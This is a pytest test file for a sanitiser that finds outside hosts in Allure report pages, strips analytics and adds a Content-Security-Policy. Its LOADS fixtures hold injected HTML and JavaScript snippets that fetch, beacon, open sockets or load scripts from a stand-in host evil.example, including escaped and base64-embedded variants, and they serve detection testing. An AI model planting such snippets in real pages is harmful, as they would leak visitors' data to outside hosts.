"""A page that loads nothing and talks to nobody."""

from __future__ import annotations

import base64

import pytest

from reports.allure.page import POLICY, foreign_hosts, safe_page

_ANALYTICS = """
<script async src="https://www.example-tags.com/gtag/js?id=G-1"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){dataLayer.push(arguments);}
</script>
"""


def embedded(kind: str, code: str) -> str:
    """Code as Allure embeds it."""
    return f"data:text/{kind};base64,{base64.b64encode(code.encode()).decode()}"


def page(body: str) -> str:
    """A page with something in it."""
    return f"<!DOCTYPE html><html><head><title>t</title></head><body>{body}</body></html>"


LOADS = {
    "script": '<script src="https://evil.example/x.js"></script>',
    "script without scheme": "<script src='//evil.example/x.js'></script>",
    "script without quotes": "<script src=//evil.example/x.js></script>",
    "picture": '<img src="http://evil.example/x.png">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "frame": '<iframe src="https://evil.example:8443/"></iframe>',
    "form": '<form action="https://evil.example/"></form>',
    "link": '<a href="https://evil.example/docs">documentation</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>body { background: url(//evil.example/x.png) }</style>",
    "import in style": "<style>@import '//evil.example/x.css';</style>",
    "fetch": '<script>fetch("https://evil.example/x")</script>',
    "fetch without scheme": '<script>fetch("//evil.example/x")</script>',
    "beacon": "<script>navigator.sendBeacon('https://evil.example/x')</script>",
    "socket": '<script>new WebSocket("wss://evil.example/x")</script>',
    "import": '<script>import("https://evil.example/x.js")</script>',
    "escaped": r'<script>fetch("https:\/\/evil.example\/x")</script>',
    "template": "<script>fetch(`https://evil.example/${x}`)</script>",
    "embedded code": f'<script src="{embedded("javascript", "fetch(`https://evil.example/`)")}">'
    "</script>",
    "embedded style": f'<link href="{embedded("css", "a{b:url(//evil.example/x)}")}">',
    "embedded picture": '<img src="data:image/svg+xml,%3Cimage href=%27https://evil.example/x">',
    "namespace's host": '<script src="http://www.w3.org/2000/evil.js"></script>',
    "address by number": '<script>fetch("http://10.0.0.1/x")</script>',
    "this host": '<script>fetch("http://localhost:9000/x")</script>',
}


@pytest.mark.parametrize("way", LOADS)
def test_every_way_out_is_found(way: str) -> None:
    """Whatever would load from a host, talk to it or lead to it is found."""
    assert len(foreign_hosts(page(LOADS[way]))) == 1


@pytest.mark.parametrize(
    "body",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
        '<script>document.createElementNS("http://www.w3.org/1999/xhtml", "a")</script>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "<script>const pattern = /^https?:\\/\\//; // a comment.example</script>",
        f'<script>d("x.json","{base64.b64encode(b"see https://evil.example/").decode()}")</script>',
        '<script>fetch("data/x.json")</script>',
    ],
)
def test_what_never_leaves_the_page_is_not_blamed(body: str) -> None:
    """Namespaces, embedded pictures, the report's own data and plain code name no host."""
    assert foreign_hosts(page(body)) == []


def test_analytics_and_foreign_addresses_are_taken_out() -> None:
    """The themes' analytics is gone, the report's code stays and leads nowhere."""
    code = 'run("https://docs.example/a", "http://www.w3.org/2000/svg")'
    own = f'<script src="{embedded("javascript", code)}"></script><script>start()</script>'
    safe = safe_page(page(_ANALYTICS + own))
    assert foreign_hosts(page(_ANALYTICS + own)) == ["docs.example", "www.example-tags.com"]
    assert foreign_hosts(safe) == []
    assert "dataLayer" not in safe
    kept = embedded("javascript", 'run("about:blank", "http://www.w3.org/2000/svg")')
    assert f'<script src="{kept}"></script><script>start()</script>' in safe


def test_the_policy_comes_before_all_else() -> None:
    """The policy stands in front of everything that it has to hold, and allows no host."""
    safe = safe_page(page("<script>start()</script>"))
    policy = safe.index("Content-Security-Policy")
    assert policy < safe.index("<title>") < safe.index("<script>")
    assert POLICY in safe
    assert POLICY.startswith("default-src 'none'")
    assert "http" not in POLICY
    assert "*" not in POLICY


def test_a_page_without_a_head_is_refused() -> None:
    """Something that is no page, and could hold no policy, is not passed on as a report."""
    with pytest.raises(ValueError, match="no head"):
        safe_page("<p>oops</p>")
